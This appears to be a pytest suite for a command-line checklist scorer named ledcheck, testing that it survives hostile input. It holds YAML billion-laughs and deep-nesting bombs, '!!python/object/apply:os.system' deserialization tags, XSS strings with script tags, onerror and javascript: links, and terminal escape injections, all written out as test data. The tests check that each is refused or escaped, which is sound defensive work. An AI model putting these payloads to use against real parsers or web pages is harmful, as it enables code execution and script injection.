"""Hostile input and hostile environments: what ledcheck must survive without damage.

Every test runs the real command line in a subprocess (``python -m ledcheck``) and checks both
sides of "fail safely": a clear message (``FILE:LINE:COL`` or the file's name on stderr, the exit
code of FORMAT.md §5, never a traceback) and no damage (nothing written outside the folder asked
for, old outputs intact, no side effect of a YAML tag, memory and time bounded).

Among them, regression tests for bugs found this way: aliases of one long string (weighed by
length now), quadratic locating of many problems, escape sequences in problem lines, outputs
that are devices.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import resource
import signal
import subprocess
import sys
import tempfile
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "checklists" / "examples"
EXAMPLE = EXAMPLES / "hue-2025.yaml"

MB = 1024 * 1024
LOCATED = r":\d+:\d+: error: "  # FILE:LINE:COL: error:


# --------------------------------------------------------------------------- running the CLI

class Run:
    def __init__(self, rc: int, out: bytes, err: bytes, maxrss_kb: int, seconds: float):
        self.rc, self.out_bytes, self.err_bytes = rc, out, err
        self.out = out.decode("utf-8", "replace")
        self.err = err.decode("utf-8", "replace")
        self.maxrss_mb = maxrss_kb / 1024  # Linux: ru_maxrss is in KiB
        self.seconds = seconds

    def __repr__(self) -> str:  # shown by pytest when an assertion fails
        return (f"<Run rc={self.rc} {self.seconds:.2f}s {self.maxrss_mb:.0f}MB\n"
                f"stdout: {self.out[:1500]}\nstderr: {self.err[:3000]}>")


def _limit_memory(limit: int | None):
    if limit is None:
        return None

    def pre():
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    return pre


# Runs ledcheck as its own child and reports that child's peak RSS (from wait4) in a file. The
# launcher is a fresh small interpreter: a child forked straight from this test process would count
# this process's own memory (pytest, fixtures, a 50 MB string) in its peak RSS.
_LAUNCHER = """
import os, subprocess, sys
p = subprocess.Popen(sys.argv[2:])
_, status, usage = os.wait4(p.pid, 0)
with open(sys.argv[1], "w") as fh:
    fh.write(str(usage.ru_maxrss))
code = os.waitstatus_to_exitcode(status)
os._exit(code if code >= 0 else 128 - code)
"""


def start(args, *, cwd=None, env=None, stdin_data=None, mem_limit=None) -> tuple[subprocess.Popen, float, list]:
    """Start ``python -m ledcheck ARGS`` in its own process group (so that it can be killed
    with its workers); stdout/stderr go to temporary files (no pipe can fill up)."""
    out, err = tempfile.TemporaryFile(), tempfile.TemporaryFile()
    fd, rss_file = tempfile.mkstemp(prefix="ledcheck-rss-")
    os.close(fd)
    full_env = dict(os.environ, COLUMNS="250", NO_COLOR="1", **(env or {}))
    full_env.pop("LEDCHECK_DEBUG", None)
    full_env.pop("LEDCHECK_MAX_BYTES", None)
    p = subprocess.Popen([sys.executable, "-c", _LAUNCHER, rss_file, sys.executable, "-m", "ledcheck",
                          *map(str, args)], cwd=cwd, env=full_env,
                         stdin=subprocess.PIPE if stdin_data is not None else subprocess.DEVNULL,
                         stdout=out, stderr=err, start_new_session=True,
                         preexec_fn=_limit_memory(mem_limit))
    if stdin_data is not None:
        p.stdin.write(stdin_data.encode("utf-8"))
        p.stdin.close()
    return p, time.monotonic(), [out, err, rss_file]


def wait(p: subprocess.Popen, t0: float, files: list, timeout: float = 60) -> Run:
    """Reap the run; its peak RSS is that of the ledcheck process alone (see _LAUNCHER)."""
    deadline = t0 + timeout
    while True:
        pid, status, _usage = os.wait4(p.pid, os.WNOHANG)
        if pid:
            break
        if time.monotonic() > deadline:
            _kill(p)
            close(files)
            pytest.fail(f"ledcheck did not finish within {timeout} s: {p.args[3:]}")
        time.sleep(0.005)
    seconds = time.monotonic() - t0
    p.returncode = os.waitstatus_to_exitcode(status)
    out, err, rss_file = files
    out.seek(0)
    err.seek(0)
    rss = Path(rss_file).read_text() or "0"
    run = Run(p.returncode, out.read(), err.read(), int(rss), seconds)
    close(files)
    return run


def close(files: list) -> None:
    out, err, rss_file = files
    out.close()
    err.close()
    try:
        os.unlink(rss_file)
    except FileNotFoundError:
        pass


def _kill(p: subprocess.Popen) -> None:
    try:
        os.killpg(p.pid, signal.SIGKILL)  # the group of the process this test started
    except ProcessLookupError:
        pass
    try:
        os.waitpid(p.pid, 0)
    except ChildProcessError:
        pass
    p.returncode = -9


def cli(*args, timeout: float = 60, **kw) -> Run:
    p, t0, files = start(args, **kw)
    return wait(p, t0, files, timeout)


def assert_clean(run: Run) -> None:
    """Whatever happened, the user sees messages, not a crash."""
    assert "Traceback" not in run.err, run
    assert "internal error" not in run.err, run


def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` (not following links) and its bytes."""
    out = {}
    for dirpath, _dirs, names in os.walk(folder):
        for n in names:
            p = Path(dirpath, n)
            if p.is_file() and not p.is_symlink():
                out[str(p.relative_to(folder))] = p.read_bytes()
    return out


def all_indicators(node: dict) -> dict:
    """{id: indicator} of a result, through nested sections."""
    out = {}
    for sec in node.get("sections") or ():
        out.update({i["id"]: i for i in sec.get("indicators") or ()})
        out.update(all_indicators(sec))
    return out


def submission(subject: str = "Test City", answers: str = "{}", checklist: str = "sme-me-aec",
               extra: str = "") -> str:
    return (f"ledcheck: 1\nchecklist: {checklist}\nsubject: {json.dumps(subject)}\n{extra}"
            f"answers: {answers}\n")


# --------------------------------------------------------------------------- 1. alias bombs, deep nesting

def _laughs(indent: str = "") -> str:
    lines = [f'{indent}a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    prev = "a"
    for c in "bcdefghi":
        lines.append(f"{indent}{c}: &{c} [" + ",".join([f"*{prev}"] * 9) + "]")
        prev = c
    return "\n".join(lines) + "\n"


BOMBS = {
    # 9^9 ~ 387 million strings
    "billion-laughs": (
        "ledcheck: 1\nchecklist: sme-me-aec\nsubject: x\nanswers:\n" + _laughs("  "),
        "ledcheck: 1\nid: bomb\ntitle: t\n" + _laughs() + "sections: []\n",
    ),
    # 100,000 levels of flow collections
    "deep-flow": (
        "ledcheck: 1\nchecklist: sme-me-aec\nsubject: x\nanswers:\n  ST1: " + "[" * 100_000 + "]" * 100_000 + "\n",
        "ledcheck: 1\nid: deep\ntitle: t\nsections: " + "[" * 100_000 + "]" * 100_000 + "\n",
    ),
    "deep-map": (
        "ledcheck: 1\nchecklist: sme-me-aec\nsubject: x\nanswers: " + "{a: " * 100_000 + "1" + "}" * 100_000 + "\n",
        "ledcheck: 1\nid: deep\ntitle: t\nsections: " + "{a: " * 100_000 + "1" + "}" * 100_000 + "\n",
    ),
    # 100,000 levels of block sequences on one line ("- - - - ... 1")
    "deep-block": (
        "ledcheck: 1\nchecklist: sme-me-aec\nsubject: x\nanswers:\n  ST1:\n    " + "- " * 100_000 + "1\n",
        "ledcheck: 1\nid: deep\ntitle: t\nsections:\n  " + "- " * 100_000 + "1\n",
    ),
}


@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_alias_bombs_and_deep_nesting_are_refused_fast_and_small(tmp_path, bomb):
    from ledcheck import yamlio
    from ledcheck.errors import LoadError

    sub_text, cl_text = BOMBS[bomb]
    sub = write(tmp_path / "sub.yaml", sub_text)
    cl = write(tmp_path / "cl.yaml", cl_text)

    # the loader itself: refused with a position, in well under a second
    for path in (sub, cl):
        t0 = time.monotonic()
        with pytest.raises(LoadError) as info:
            yamlio.load(path)
        assert time.monotonic() - t0 < 2.0   # a guard rail against blow-ups (ms in practice)
        assert info.value.line >= 1 and info.value.col >= 1

    # the commands: validate and score both files in one run each, then the checklist via -c
    runs = [
        (cli("validate", sub, cl, cwd=tmp_path), 1),
        (cli("score", sub, cl, cwd=tmp_path), 1),
        (cli("score", "-c", cl, EXAMPLE, cwd=tmp_path), 2),   # a checklist score cannot use
        (cli("validate", "-c", cl, EXAMPLE, cwd=tmp_path), 2),
    ]
    for run, code in runs:
        assert_clean(run)
        assert run.rc == code, run
        # interpreter start-up included; the parsing itself is timed above
        assert run.seconds < 8.0, run
        assert run.maxrss_mb < 200, run
        assert re.search(r"(^|\s)(\S*/)?cl\.yaml" + LOCATED, run.err, re.M), run
        assert re.search(r"nesting is too deep|aliases expand|nodes", run.err), run
    assert re.search(r"sub\.yaml" + LOCATED, runs[0][0].err), runs[0][0]
    assert re.search(r"sub\.yaml" + LOCATED, runs[1][0].err), runs[1][0]


def _scalar_bomb(n_aliases: int = 20_000, size: int = 500_000) -> str:
    """A small file whose aliases repeat one long string: few nodes, a huge expansion."""
    big = "x" * size
    return ("ledcheck: 1\nchecklist: sme-me-aec\nsubject: x\nanswers:\n  ST1:\n    value: 3\n"
            f"    evidence: [&e '{big}'" + ", *e" * n_aliases + "]\n")


def test_aliases_of_a_long_string_are_refused_like_a_billion_laughs(tmp_path):
    sub = write(tmp_path / "sub.yaml", _scalar_bomb())
    assert sub.stat().st_size < 1 * MB
    for command in ("validate", "score"):
        run = cli(command, sub, cwd=tmp_path, mem_limit=1500 * MB, timeout=30)
        assert_clean(run)
        assert run.rc == 1, run
        assert re.search(r"sub\.yaml" + LOCATED + ".*alias", run.err), run


def test_checklist_with_aliased_long_texts_is_refused(tmp_path):
    big = "y" * 1_000_000
    lines = ["ledcheck: 1", "id: bomb", f"title: &t '{big}'", "sections:", "  - id: s",
             "    title: *t", "    indicators:"]
    lines += [f"      - {{id: I{i}, text: *t, type: yesno}}" for i in range(5000)]
    cl = write(tmp_path / "cl.yaml", "\n".join(lines) + "\n")
    run = cli("validate", cl, cwd=tmp_path, mem_limit=1500 * MB, timeout=20)
    assert_clean(run)
    assert run.rc == 1, run
    assert re.search(r"cl\.yaml" + LOCATED, run.err), run


def test_many_unknown_answers_are_reported_in_linear_time(tmp_path):
    body = "".join(f"  U{i}: 1\n" for i in range(10_000))
    sub = write(tmp_path / "sub.yaml", "ledcheck: 1\nchecklist: sme-me-aec\nsubject: x\nanswers:\n" + body)
    p, t0, files = start(["validate", sub], cwd=tmp_path)
    try:
        pid = 0
        while time.monotonic() - t0 < 4.0 and not pid:
            pid, status, _ = os.wait4(p.pid, os.WNOHANG)
            time.sleep(0.01)
        assert pid, "validate of 10,000 unknown answers took over 4 s"
    finally:
        if not pid:
            _kill(p)
        close(files)


def test_checklist_with_many_problems_is_checked_in_linear_time(tmp_path):
    lines = ["ledcheck: 1", "id: big", "title: t", "sections:", "  - id: s", "    title: s",
             "    indicators:"]
    lines += [f"      - {{id: I{i}, text: t, type: yesno, wieght: 1}}" for i in range(20_000)]
    cl = write(tmp_path / "cl.yaml", "\n".join(lines) + "\n")
    p, t0, files = start(["validate", cl], cwd=tmp_path)
    try:
        pid = 0
        while time.monotonic() - t0 < 5.0 and not pid:
            pid, status, _ = os.wait4(p.pid, os.WNOHANG)
            time.sleep(0.01)
        assert pid, "validate of a checklist with 20,000 problems took over 5 s"
    finally:
        if not pid:
            _kill(p)
        close(files)


# --------------------------------------------------------------------------- 2. size limit

def test_a_50_mb_file_is_refused_by_the_size_limit_and_accepted_when_raised(tmp_path):
    big = tmp_path / "big.yaml"
    chunk, n_chunks = "n" * MB, 50
    with open(big, "w", encoding="utf-8") as fh:  # written in pieces: this process stays small
        fh.write("ledcheck: 1\nchecklist: sme-me-aec\nsubject: Big\nanswers:\n"
                 "  ST1: {value: 3, evidence: e, note: '")
        for _ in range(n_chunks):
            fh.write(chunk)
        fh.write("'}\n")
    assert big.stat().st_size > 50 * MB

    for command in ("validate", "score"):
        run = cli(command, big, cwd=tmp_path, timeout=20)
        assert_clean(run)
        assert run.rc == 1, run
        assert run.seconds < 8.0, run
        assert run.maxrss_mb < 200, run   # refused before reading
        assert re.search(r"big\.yaml" + LOCATED + r".*limit of 10,485,760 bytes.*--max-bytes", run.err), run

    out = tmp_path / "out.json"
    run = cli("score", big, "--max-bytes", "100000000", "-o", out, cwd=tmp_path, timeout=30)
    assert_clean(run)
    assert run.rc == 0, run
    assert run.seconds < 30, run
    [result] = json.loads(out.read_bytes())
    st1 = all_indicators(result)["ST1"]
    assert len(st1["note"]) == n_chunks * MB and set(st1["note"]) == {"n"}


# --------------------------------------------------------------------------- 3. encodings, binary

BINARIES = {
    "latin1.yaml": ("ledcheck: 1\nchecklist: sme-me-aec\nsubject: Caf\xe9 City\nanswers: {}\n".encode("latin-1"),
                    (3, 13)),
    "png.yaml": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)), (1, 1)),
    "nul.yaml": (b"ledcheck: 1\nchecklist: sme-me-aec\nsubject: a\x00b\nanswers: {}\n", (3, 11)),
    "utf16.yaml": ("ledcheck: 1\n".encode("utf-16"), (1, 1)),
}


def test_non_utf8_and_binary_files_are_refused_with_their_position(tmp_path):
    paths = [write(tmp_path / name, data) for name, (data, _) in BINARIES.items()]
    for command in ("validate", "score"):
        run = cli(command, *paths, cwd=tmp_path)
        assert_clean(run)
        assert run.rc == 1, run
        for name, (_data, (line, col)) in BINARIES.items():
            assert re.search(rf"{re.escape(name)}:{line}:{col}: error: (not UTF-8|binary)", run.err), (name, run)
    # as a checklist: one that score cannot use
    run = cli("score", "-c", paths[0], EXAMPLE, cwd=tmp_path)
    assert_clean(run)
    assert run.rc == 2, run
    assert re.search(r"latin1\.yaml:3:13: error: not UTF-8", run.err), run


# --------------------------------------------------------------------------- 4. folders, permissions, missing

def test_a_folder_where_a_file_is_expected_is_a_usage_error(tmp_path):
    folder = tmp_path / "folder"
    folder.mkdir()
    before = snapshot(tmp_path)
    for args in (["score", "-c", folder, EXAMPLE], ["validate", "-c", folder, EXAMPLE],
                 ["template", "-o", folder], ["template", folder], ["show", folder]):
        run = cli(*args, cwd=tmp_path)
        assert_clean(run)
        assert run.rc == 2, (args, run)
        assert str(folder) in run.err and re.search(r"folder|directory", run.err, re.I), (args, run)
    assert snapshot(tmp_path) == before
    assert sorted(os.listdir(folder)) == []  # no temp file left by template -o FOLDER


def test_an_unreadable_file_is_a_usage_error(tmp_path):
    sub = write(tmp_path / "secret.yaml", EXAMPLE.read_text(encoding="utf-8"))
    cl = write(tmp_path / "cl.yaml", (ROOT / "checklists" / "sme-me-aec.yaml").read_text(encoding="utf-8"))
    sub.chmod(0)
    cl.chmod(0)
    try:
        if os.access(sub, os.R_OK):
            pytest.skip("running as root: a chmod 000 file stays readable")
        for args in (["validate", sub], ["score", sub], ["score", "-c", cl, EXAMPLE]):
            run = cli(*args, cwd=tmp_path)
            assert_clean(run)
            assert run.rc == 2, run
            assert "permission denied" in run.err, run
    finally:
        sub.chmod(0o644)
        cl.chmod(0o644)


def test_a_path_that_does_not_exist_is_a_usage_error(tmp_path):
    missing = tmp_path / "nope.yaml"
    for args in (["validate", missing], ["score", missing], ["score", "-c", missing, EXAMPLE],
                 ["validate", "-c", missing, EXAMPLE], ["template", missing],
                 ["score", EXAMPLE, "-o", tmp_path / "no-such-folder" / "out.json"]):
        run = cli(*args, cwd=tmp_path)
        assert_clean(run)
        assert run.rc == 2, (args, run)
        assert ("nope.yaml" in run.err or "no-such-folder" in run.err), (args, run)
    assert not (tmp_path / "no-such-folder").exists()


# --------------------------------------------------------------------------- 5. symlinks, special files

@pytest.fixture
def linked_tree(tmp_path):
    """in/a/sub1.yaml, in/sub2.yaml, a loop (in/a/loop -> ..), a link to itself (in/self -> .),
    two links to one file outside (in/a/out1.yaml, in/out2.yaml), a link to a folder outside,
    a broken link, and a FIFO named like a submission."""
    root = tmp_path / "in"
    outside = tmp_path / "outside"
    write(root / "a" / "sub1.yaml", EXAMPLE.read_text(encoding="utf-8"))
    write(root / "sub2.yaml", (EXAMPLES / "hue-2026.yaml").read_text(encoding="utf-8"))
    write(outside / "o.yaml", (EXAMPLES / "da-nang-2025.yaml").read_text(encoding="utf-8"))
    os.symlink("..", root / "a" / "loop")
    os.symlink(".", root / "self")
    os.symlink("../../outside/o.yaml", root / "a" / "out1.yaml")
    os.symlink("../outside/o.yaml", root / "out2.yaml")
    os.symlink("../outside", root / "outdir")
    os.symlink("nowhere.yaml", root / "broken.yaml")
    os.mkfifo(root / "fifo.yaml")
    return root, outside


def test_symlink_loops_terminate_and_each_file_is_read_once(linked_tree, tmp_path):
    root, outside = linked_tree
    expected = {os.path.realpath(p) for p in
                (root / "a" / "sub1.yaml", root / "sub2.yaml", outside / "o.yaml")}

    run = cli("validate", "--format", "json", root, cwd=tmp_path, timeout=20)
    assert_clean(run)
    assert run.rc == 2, run  # the broken link and the FIFO cannot be opened
    files = json.loads(run.out)["files"]
    read = [f["path"] for f in files if f["kind"] != "unknown"]
    assert len(read) == len(expected) and {os.path.realpath(p) for p in read} == expected, files
    unusable = {Path(f["path"]).name: f["problems"][0]["message"] for f in files if f["kind"] == "unknown"}
    assert unusable == {"broken.yaml": "broken symbolic link",
                        "fifo.yaml": "not a regular file (a FIFO, socket or device); skipped"}

    run = cli("score", "-f", "jsonl", root, cwd=tmp_path, timeout=20)
    assert_clean(run)
    assert run.rc == 2, run
    sources = [json.loads(line)["source"] for line in run.out.splitlines()]
    assert len(sources) == 3 and {os.path.realpath(s) for s in sources} == expected, sources
    assert re.search(r"broken\.yaml" + LOCATED + "broken symbolic link", run.err), run
    assert re.search(r"fifo\.yaml" + LOCATED + "not a regular file", run.err), run


def test_a_file_named_twice_and_linked_is_scored_once(linked_tree, tmp_path):
    root, outside = linked_tree
    run = cli("score", "-f", "jsonl", outside / "o.yaml", root / "out2.yaml", root / "a",
              cwd=tmp_path, timeout=20)
    assert_clean(run)
    sources = [os.path.realpath(json.loads(line)["source"]) for line in run.out.splitlines()]
    # symlinked folders inside an input folder are not followed (in/a/loop -> .. is not walked,
    # so sub2.yaml is not read); o.yaml, named and linked twice, is read once
    assert sorted(sources) == sorted({os.path.realpath(p) for p in (
        outside / "o.yaml", root / "a" / "sub1.yaml")}), sources


def test_symlinked_folders_inside_inputs_are_not_followed(tmp_path):
    """A link to / in an input folder must not make ledcheck read (and quote) the file system."""
    root = tmp_path / "in"
    write(root / "s.yaml", EXAMPLE.read_text(encoding="utf-8"))
    os.symlink("/", root / "rootfs")
    run = cli("validate", "--format", "json", root, cwd=tmp_path, timeout=20)
    assert_clean(run)
    assert [Path(f["path"]).name for f in json.loads(run.out)["files"]] == ["s.yaml"]


# --------------------------------------------------------------------------- 6. Python object tags

TAG_PAYLOADS = [
    '!!python/object/apply:os.system ["touch {marker}"]',
    "!!python/name:os.system",
    '!!python/object/new:os.system ["touch {marker}"]',
    '!!python/object/apply:subprocess.check_output [["touch", "{marker}"]]',
    "!!python/module:os",
]


def test_python_tags_are_refused_and_never_run(tmp_path):
    marker = tmp_path / "pwned"
    files = []
    for i, tag in enumerate(TAG_PAYLOADS):
        payload = tag.format(marker=marker)
        files.append((write(tmp_path / f"sub-subject-{i}.yaml", submission("x").replace('"x"', payload)), 3))
        files.append((write(tmp_path / f"sub-answer-{i}.yaml",
                            submission("x", answers=f"\n  ST1: {payload}")), 5))
        files.append((write(tmp_path / f"sub-key-{i}.yaml",
                            submission("x", answers=f"\n  ? {payload}\n  : 1")), 5))
        files.append((write(tmp_path / f"cl-{i}.yaml",
                            f"ledcheck: 1\nid: t\ntitle: {payload}\nsections: []\n"), 3))
    paths = [p for p, _ in files]
    for command in ("validate", "score"):
        run = cli(command, *paths, cwd=tmp_path)
        assert_clean(run)
        assert run.rc == 1, run
        for path, line in files:
            assert re.search(rf"{re.escape(path.name)}:{line}:\d+: error: tag '!!python/\S+' is not allowed",
                             run.err), (path.name, run)
    for path, _ in files:
        if path.name.startswith("cl-"):
            run = cli("score", "-c", path, EXAMPLE, cwd=tmp_path)
            assert_clean(run)
            assert run.rc == 2, run
            assert "is not allowed" in run.err
    assert not marker.exists()


# --------------------------------------------------------------------------- 7. HTML / script injection

XSS_CHECKLIST = r"""
ledcheck: 1
id: xss
version: "<script>alert('version')</script>"
title: "<script>alert('title')</script> Checklist"
languages: [en]
ratings:
  - {min: 50, label: "<img src=x onerror=alert('rating')>"}
  - {min: 0, label: "<a href='javascript:alert(1)'>low</a>"}
sections:
  - id: s1
    title: "<img src=x onerror=alert('section')> One"
    indicators:
      - {id: T1, text: "<script>alert('t1')</script>", type: text}
      - id: C1
        text: "<a href=\"javascript:alert('c1')\">c1</a>"
        type: choice
        options:
          - {id: good, label: "<b onmouseover=alert(1)>good</b>", score: 1}
          - {id: bad, label: bad, score: 0}
      - id: M1
        text: "<svg onload=alert('m1')>"
        type: multi
        options:
          - {id: a, label: A, score: 1}
          - {id: b, label: B, score: 1}
      - {id: N1, text: "number", type: number, target: 10, unit: "<img src=x onerror=alert('unit')>"}
      - {id: Y1, text: "yes/no", type: yesno, evidence: required}
    sections:
      - id: s1a
        title: "<iframe src=\"javascript:alert('sub')\"></iframe>"
        indicators:
          - {id: T2, text: "[link](javascript:alert('t2')) ![img](x onerror=alert(1))", type: text}
  - id: s2
    title: "<style>body{display:none}</style> Two"
    indicators:
      - {id: Y2, text: "<!-- comment --> y2", type: yesno}
  - id: s3
    title: "Three &lt;script&gt; &#60;img&#62;"
    indicators:
      - {id: Y3, text: "y3 <javascript:alert(1)>", type: yesno}
"""

XSS = {
    "subject": "<script>alert('subject')</script>",
    "assessor": "<img src=x onerror=alert('assessor')>",
    "period": "[link=javascript:alert('period')]p[/link] <b>",
    "date": "<svg onload=alert('date')>",
    "checklist_version": "<img src=x onerror=alert('cv')>",
    "text": "<script>alert('text')</script>",
    "evidence": "<img src=x onerror=alert('evidence')>",
    "note": "</td></tr></table><script>alert('note')</script>",
    "choice": "<img src=x onerror=alert('choice')>",
    "multi": "<script>alert('multi')</script>",
    "yesno": "<b>maybe</b>",
    "unknown": "<img src=x onerror=alert(1)>",
    "answer_key": "<script>alert('key')</script>",
    "text2": "javascript:alert('t2') | # *x* `y` [z](javascript:1)",
}


def _q(s: str) -> str:
    return json.dumps(s)


XSS_SUBMISSION = f"""\
ledcheck: 1
checklist: xss
checklist_version: {_q(XSS['checklist_version'])}
subject: {_q(XSS['subject'])}
assessor: {_q(XSS['assessor'])}
date: {_q(XSS['date'])}
period: {_q(XSS['period'])}
answers:
  T1: {{value: {_q(XSS['text'])}, evidence: {_q(XSS['evidence'])}, note: {_q(XSS['note'])}}}
  T2: {_q(XSS['text2'])}
  C1: {_q(XSS['choice'])}
  M1: [a, {_q(XSS['multi'])}]
  N1: {{value: 5, evidence: "e", note: "n"}}
  Y1: {_q(XSS['yesno'])}
  Y2: {{value: yes, evidence: {_q(XSS['evidence'])}}}
  {_q(XSS['unknown'])}: yes
  Y3: {{value: yes, {_q(XSS['answer_key'])}: 1}}
"""

# A second submission, so that multi-result layouts (summary tables) are rendered too; its
# subject carries Rich markup and a terminal escape, its unknown key a fake problem line.
XSS_SUBMISSION_2 = """\
ledcheck: 1
checklist: xss
subject: "[bold red]RED[/] \\e[31mescape"
answers:
  Y2: yes
  "\\e[2J\\rfake.yaml:1:1: error: injected\\n": 1
"""

# Tags that a report may contain: the renderers' own markup (inline SVG charts included).
HTML_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "footer", "article",
             "section", "figure", "div", "p", "span", "strong", "a", "dl", "dt", "dd", "ul", "li",
             "h1", "h2", "h3", "h4", "h5", "h6", "table", "caption", "colgroup", "col", "thead",
             "tbody", "tr", "th", "td", "svg", "polygon", "line", "text", "tspan", "circle", "rect"}
MD_TAGS = {"h1", "h2", "h3", "h4", "h5", "h6", "p", "ul", "ol", "li", "strong", "em", "code",
           "table", "thead", "tbody", "tr", "th", "td", "br", "hr"}


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)


def assert_inert_html(markup: str, allowed: set[str], *, shown: list[str] = ()) -> None:
    """No tag, attribute or URL from the data: only the renderer's own markup; and the hostile
    strings are shown as text."""
    parser = _Collect()
    parser.feed(markup)
    parser.close()
    tags = [t for t, _ in parser.tags]
    assert set(tags) <= allowed, set(tags) - allowed
    assert tags.count("style") <= 1 and tags.count("script") == 0
    assert parser.comments == []
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.lower().startswith("on"), (tag, name, value)
            assert "javascript:" not in (value or "").lower().replace(" ", ""), (tag, name, value)
            if tag == "a" and name == "href":
                assert value.startswith("#"), value
    text = "".join(parser.text)
    for s in shown:
        assert s in text, f"{s!r} is not shown as text"


@pytest.fixture
def xss_files(tmp_path):
    cl = write(tmp_path / "cl.yaml", XSS_CHECKLIST)
    sub = write(tmp_path / "sub.yaml", XSS_SUBMISSION)
    sub2 = write(tmp_path / "sub2.yaml", XSS_SUBMISSION_2)
    return cl, sub, sub2


def _score_to(tmp_path, cl, subs, fmt, *extra) -> tuple[Run, bytes]:
    out = tmp_path / f"out.{fmt}"
    run = cli("score", "-c", cl, *subs, "-o", out, *extra, cwd=tmp_path)
    assert_clean(run)
    assert run.rc == 1, run  # the submission has errors, and is still scored
    return run, out.read_bytes()


SHOWN = [XSS["subject"], XSS["assessor"], XSS["text"], XSS["evidence"], XSS["note"],
         "<script>alert('title')</script> Checklist", "<img src=x onerror=alert('section')> One",
         "<iframe src=\"javascript:alert('sub')\"></iframe>", "<script>alert('t1')</script>",
         "<style>body{display:none}</style> Two", "<img src=x onerror=alert('rating')>",
         "<!-- comment --> y2", "Three &lt;script&gt; &#60;img&#62;",
         f"not '{XSS['choice']}'", f"option '{XSS['multi']}'", f"not '{XSS['yesno']}'",
         f"unknown indicator '{XSS['unknown']}'", f"unknown key '{XSS['answer_key']}'",
         f"not '{XSS['date']}'", f"'{XSS['checklist_version']}'"]


def test_html_reports_escape_every_user_field(tmp_path, xss_files):
    cl, sub, sub2 = xss_files
    # several results: summary table and one article each
    _run, data = _score_to(tmp_path, cl, [sub, sub2], "html")
    assert_inert_html(data.decode("utf-8"), HTML_TAGS, shown=SHOWN + [XSS["period"]])
    # one report per submission (the single-result layout)
    out = tmp_path / "reports"
    run = cli("score", "-c", cl, sub, sub2, "-o", f"{out}/", "-f", "html", cwd=tmp_path)
    assert_clean(run)
    reports = sorted(out.iterdir())
    assert len(reports) == 3
    for report in reports:
        assert_inert_html(report.read_text(encoding="utf-8"), HTML_TAGS)
    single = [r for r in reports if r.name.startswith("script")]
    assert len(single) == 1, reports
    assert_inert_html(single[0].read_text(encoding="utf-8"), HTML_TAGS, shown=SHOWN)


def test_markdown_reports_cannot_inject_markup(tmp_path, xss_files):
    from markdown_it import MarkdownIt

    cl, sub, sub2 = xss_files
    for subs in ([sub], [sub, sub2]):
        _run, data = _score_to(tmp_path, cl, subs, "md")
        rendered = MarkdownIt("commonmark").enable("table").render(data.decode("utf-8"))
        assert "<script" not in rendered and "<img" not in rendered and "<iframe" not in rendered
        assert_inert_html(rendered, MD_TAGS, shown=SHOWN)


def test_json_and_jsonl_keep_hostile_strings_exactly(tmp_path, xss_files):
    cl, sub, _sub2 = xss_files
    _run, data = _score_to(tmp_path, cl, [sub], "json")
    [r_json] = json.loads(data)
    _run, data = _score_to(tmp_path, cl, [sub], "jsonl")
    [r_jsonl] = [json.loads(line) for line in data.decode("utf-8").splitlines()]
    run = cli("score", "-c", cl, sub, "-f", "json", cwd=tmp_path)
    [r_stdout] = json.loads(run.out)
    for r in (r_json, r_jsonl, r_stdout):
        assert r["subject"] == XSS["subject"]
        assert r["assessor"] == XSS["assessor"]
        assert r["period"] == XSS["period"]
        inds = all_indicators(r)
        assert inds["T1"]["value"] == XSS["text"]
        assert inds["T1"]["evidence"] == XSS["evidence"]
        assert inds["T1"]["note"] == XSS["note"]
        assert inds["T2"]["value"] == XSS["text2"]
        messages = "\n".join(p["message"] for p in r["problems"])
        for s in ("choice", "multi", "yesno", "unknown", "answer_key", "date", "checklist_version"):
            assert XSS[s] in messages, s
        assert f"answers.{XSS['unknown']}" in {p["path"] for p in r["problems"]}
    assert r_json == r_jsonl == r_stdout | {"source": r_json["source"]}


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_csv_and_xlsx_keep_hostile_strings_as_text(tmp_path, xss_files):
    openpyxl = pytest.importorskip("openpyxl")
    cl, sub, _sub2 = xss_files
    _run, wide = _score_to(tmp_path, cl, [sub], "csv")
    header, row = _csv_rows(wide)
    cells = dict(zip(header, row))
    assert cells["subject"] == XSS["subject"] and cells["assessor"] == XSS["assessor"]
    assert cells["period"] == XSS["period"]
    long_out = tmp_path / "long.csv"
    run = cli("score", "-c", cl, sub, "--long", "-o", long_out, cwd=tmp_path)
    assert_clean(run)
    rows = _csv_rows(long_out.read_bytes())
    by_id = {r[rows[0].index("indicator_id")]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert by_id["T1"]["value"] == XSS["text"] and by_id["T1"]["note"] == XSS["note"]
    assert by_id["T1"]["text"] == "<script>alert('t1')</script>"

    _run, _ = _score_to(tmp_path, cl, [sub], "xlsx")
    wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
    values = {c.value for ws in wb for r in ws.iter_rows() for c in r if isinstance(c.value, str)}
    for s in (XSS["subject"], XSS["assessor"], XSS["text"], XSS["note"], XSS["evidence"],
              "<script>alert('t1')</script>", "<script>alert('title')</script> Checklist"):
        assert s in values, s


def test_terminal_table_and_stderr_cannot_be_driven_by_the_data(tmp_path, xss_files):
    cl, sub, sub2 = xss_files
    run = cli("score", "-c", cl, sub, sub2, cwd=tmp_path)
    assert_clean(run)
    assert run.rc == 1, run
    assert "\x1b" not in run.out and "\x1b" not in run.err, run
